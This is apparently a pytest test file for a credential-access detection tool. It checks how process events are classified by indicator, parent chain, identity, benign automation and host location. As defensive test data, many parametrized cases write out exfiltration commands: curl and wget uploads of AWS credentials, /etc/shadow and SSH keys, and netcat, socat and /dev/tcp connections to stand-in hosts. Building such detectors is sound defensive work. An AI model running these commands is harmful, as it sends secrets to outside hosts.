"""What the event alone says: command line, indicators, chain, identity, benign automation, place."""

from __future__ import annotations

import pytest

from credwatch.triage.context import (
    benign_automation,
    command_lines,
    indicators,
    parent_chain,
    user_identity,
    workload,
)

from .helpers import auditd, defend

SA = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def _types(args: list[str]) -> list[tuple[str, bool]]:
    return [(i.type, i.exfil) for i in indicators(defend(args))]


def test_command_line_is_shell_quoted_and_keeps_event_forms() -> None:
    ev = auditd(["cat", "/root/dir with space/.aws/credentials", "it's"])
    cl = command_lines(ev)
    assert cl["reconstructed"] == "cat '/root/dir with space/.aws/credentials' 'it'\"'\"'s'"
    assert cl["title"] == "cat /root/dir with space/.aws/credentials it's"
    assert cl["args_count"] == 3
    assert "command_line" in command_lines(defend(["cat", "/etc/shadow"]))


@pytest.mark.parametrize(("args", "expected"), [
    (["cat", "/root/.aws/credentials"], []),
    (["base64", "/root/.aws/credentials"], [("encoding", False)]),
    (["base64", "-d", "/tmp/x"], []),
    (["xxd", "-p", "/root/.ssh/id_rsa"], [("encoding", False)]),
    (["od", "-An", "-c", "/etc/shadow"], [("encoding", False)]),
    (["openssl", "enc", "-base64", "-in", "/root/.kube/config"], [("encoding", False)]),
    (["openssl", "s_client", "-connect", "evil.example:443"], [("network-tool", True)]),
    (["gzip", "-c", "/etc/shadow"], [("archive-stdout", False)]),
    (["tar", "czf", "-", "/root/.aws/credentials"], [("archive-stdout", False)]),
    (["tar", "-c", "-f", "-", "/root/.kube/config"], [("archive-stdout", False)]),
    (["tar", "-cf", "/tmp/c.tar", "/root/.kube/config"], []),
    (["curl", "-d", "@/root/.aws/credentials", "https://x.example"], [("upload", True)]),
    (["curl", "--data-binary", "@/root/.kube/config", "http://x"], [("upload", True)]),
    (["curl", "-T", "/root/.ssh/id_rsa", "ftp://x/"], [("upload", True)]),
    (["curl", "-F", "f=@/etc/shadow", "http://x"], [("upload", True)]),
    (["curl", "--upload-file", "/etc/shadow", "http://x"], [("upload", True)]),
    (["curl", "-o", "/tmp/x", "https://example.com/"], [("network-tool", False)]),
    (["wget", "--post-file=/root/.aws/credentials", "http://x"], [("upload", True)]),
    (["nc", "10.0.0.5", "4444"], [("netcat", True)]),
    (["socat", "-", "TCP:10.0.0.5:4444"], [("netcat", True)]),
    (["scp", "/root/.ssh/id_rsa", "eve@203.0.113.9:/tmp/"], [("remote-copy", True)]),
    (["rsync", "-a", "/root/.kube/config", "backup:/srv/"], [("remote-copy", True)]),
    (["scp", "/root/.ssh/id_rsa", "/tmp/copy"], [("network-tool", False)]),
    (["python3", "-c", "import socket;s=socket.create_connection(('x',1))", SA],
     [("script-network", True)]),
    (["python3", "-c", "import requests; requests.post('http://x', data=open('/etc/shadow'))"],
     [("script-network", True)]),
    (["python3", "-c", "print(open('/etc/shadow').read())"], []),
    (["perl", "-e", "use IO::Socket; ..."], [("script-network", True)]),
    (["dd", "if=/root/.ssh/id_rsa", "of=/dev/tcp/10.0.0.5/4444"], [("dev-tcp", True)]),
    (["sudo", "-u", "root", "base64", "/etc/shadow"], [("encoding", False)]),
    (["busybox", "nc", "10.0.0.5", "9"], [("netcat", True)]),
])
def test_argv_indicators(args: list[str], expected: list[tuple[str, bool]]) -> None:
    assert _types(args) == expected


@pytest.mark.parametrize(("script", "expected"), [
    (f"cat {SA} | base64 -w0", {("encoding", False), ("pipe", False)}),
    ("cat /etc/shadow > /tmp/s", {("redirect", False)}),
    ("cat /etc/shadow 2>/dev/null", set()),
    ("cat /etc/shadow >/dev/null", set()),
    ("cat /root/.aws/credentials > /dev/tcp/203.0.113.9/443", {("dev-tcp", True)}),
    ("tar czf - /root/.kube | nc 203.0.113.9 9", {("archive-stdout", False), ("pipe", False),
                                                  ("netcat", True)}),
    ("cat /etc/shadow || true", set()),
])
def test_shell_c_scripts(script: str, expected: set[tuple[str, bool]]) -> None:
    assert set(_types(["/bin/sh", "-c", script])) == expected
    assert set(_types(["bash", "-lc", script])) == expected


def test_defend_parent_chain_with_entry_leader_type() -> None:
    chain = parent_chain(defend(["cat", "/etc/shadow"]))
    roles = {c["role"]: c for c in chain}
    assert roles["parent"]["name"] == "bash" and roles["parent"]["pid"] == 4479
    assert roles["entry_leader"]["name"] == "sshd"
    assert roles["entry_leader"]["entry_type"] == "sshd"
    assert roles["session_leader"]["executable"] == "/usr/bin/bash"


def test_auditd_parent_chain_is_the_ppid() -> None:
    assert parent_chain(auditd(["cat", "/etc/shadow"], ppid=777)) == [
        {"role": "parent", "pid": 777}]


def test_auditd_identity_login_session_and_unset_auid() -> None:
    u = user_identity(auditd(["cat", "/etc/shadow"]))
    assert u["name"] == "root" and u["audit_id"] == "0" and u["session"] == "1"
    assert u["login_session"] is True
    d = user_identity(auditd(["cat", "/etc/shadow"], auid="4294967295", ses="4294967295"))
    assert d["login_session"] is False and "no login session" in d["session_kind"]


def test_defend_identity_uses_entry_meta_type() -> None:
    assert user_identity(defend(["cat", "/etc/shadow"]))["login_session"] is True
    svc = defend(["cat", "/etc/shadow"], **{"process.entry_leader.entry_meta.type": "init"})
    assert user_identity(svc)["login_session"] is False


@pytest.mark.parametrize(("fields", "needle"), [
    ({"process.parent.name": "kubelet", "process.parent.executable": "/usr/bin/kubelet"},
     "kubelet"),
    ({"process.parent.name": "containerd-shim-runc-v2",
      "process.parent.executable": "/usr/bin/containerd-shim-runc-v2"}, "shim"),
    ({"process.parent.name": "Runner.Worker",
      "process.parent.executable": "/home/runner/bin/Runner.Worker"}, "GitHub Actions"),
    ({"process.session_leader.name": "restic"}, "restic"),
    ({"process.parent.name": "python3", "process.parent.args": ["/usr/bin/ansible-playbook"]},
     "Ansible"),
    ({"process.parent.name": "java", "process.parent.args": ["java", "-jar", "agent.jar"]},
     "Jenkins"),
    ({"container.image.name": "docker.io/aquasec/kube-bench:v0.7.0"}, "kube-bench"),
    ({"container.image.name": "velero/velero@sha256:abc"}, "Velero"),
])
def test_benign_automation(fields: dict[str, object], needle: str) -> None:
    reasons = benign_automation(defend(["cat", SA], **fields))
    assert reasons and any(needle in r for r in reasons), reasons


def test_interactive_shell_is_not_benign_and_extra_table_works() -> None:
    ev = defend(["cat", SA])
    assert benign_automation(ev) == []
    assert benign_automation(ev, {"bash": "our bootstrap shell"}) != []


@pytest.mark.parametrize(("host", "args", "fields", "location"), [
    ("k8s-node-1", ["cat", SA], {}, "pod"),
    ("web-01", ["cat", "/root/.aws/credentials"], {}, "host"),
    ("k8s-node-1", ["cat", "/var/lib/kubelet/kubeconfig"], {}, "node"),
    ("cp-1", ["cat", "/etc/kubernetes/admin.conf"], {}, "control-plane"),
    ("web-01", ["cat", "/etc/rancher/k3s/k3s.yaml"], {}, "control-plane"),
    ("prod-bastion-2", ["cat", "/root/.ssh/id_rsa"], {}, "jump-host"),
    ("ip-10-0-1-5", ["cat", "/root/.aws/credentials"],
     {"orchestrator.resource.name": "api-7d9f", "orchestrator.namespace": "payments",
      "container.id": "0123456789abcdef"}, "pod"),
])
def test_location(host: str, args: list[str], fields: dict[str, str], location: str) -> None:
    from credwatch.triage.paths import credential_matches
    ev = defend(args, host=host, **fields)
    scopes = [m.kind.scope for m in credential_matches(None, args)]
    w = workload(ev, scopes)
    assert w["location"] == location, w
    if fields:
        assert w["pod"] == "api-7d9f" and w["namespace"] == "payments"
